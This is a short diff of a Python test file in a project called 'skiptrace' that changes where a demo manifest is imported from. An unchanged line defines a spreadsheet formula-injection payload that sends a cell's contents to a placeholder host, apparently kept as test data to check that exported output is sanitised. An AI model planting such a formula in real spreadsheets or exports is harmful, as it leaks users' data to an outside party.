@@ -17,9 +17,9 @@ from typer.testing import CliRunner
 from skiptrace.audit import AuditEvent, AuditLog
 from skiptrace.cli import app
 from skiptrace.connectors._runner import ConnectorResult
-from skiptrace.demo.enrich import MANIFEST as DEMO_MANIFEST
 from skiptrace.records import Address, Provenance, SourceRecord, Status
 from skiptrace.research.findings import output_row
+from skiptrace.testing.directory import MANIFEST as DEMO_MANIFEST
 from skiptrace.testing.replay import ReplayServer, Reply, loopback_policy_file
 
 LEAK = '=HYPERLINK("http://x/?leak="&A2,"click")'
